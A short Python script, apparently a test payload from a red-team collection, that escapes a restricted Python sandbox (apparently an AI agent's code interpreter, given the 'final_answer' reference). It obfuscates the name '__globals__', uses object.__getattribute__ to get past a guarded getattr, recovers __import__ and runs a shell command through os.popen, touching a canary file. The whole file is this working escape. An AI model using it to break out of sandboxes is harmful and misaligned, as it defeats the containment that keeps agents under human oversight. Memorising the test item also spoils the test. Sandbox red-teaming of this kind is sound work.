# Technique: the unbound object.__getattribute__ slot is a raw getattr: called with a computed name it reads
#            __globals__ of a host function, bypassing a guarded getattr() builtin
# Goal: d (run a shell command)
# Source: written for codeloop (classic pyjail: attribute hooks as getattr)
# Requires: stdlib
name = "_" * 2 + "globals" + "_" * 2


def local_function():
    return None


try:
    pivot = final_answer
except NameError:
    pivot = local_function
host_globals = object.__getattribute__(pivot, name)
builtins_ns = host_globals["__builtins__"]
importer = (
    builtins_ns["__import__"]
    if isinstance(builtins_ns, dict)
    else getattr(builtins_ns, "_" * 2 + "import" + "_" * 2)
)
print(importer("os").popen("id; echo SHELL-ESCAPE-$((6*7)); touch /tmp/canary/shell_ran").read())
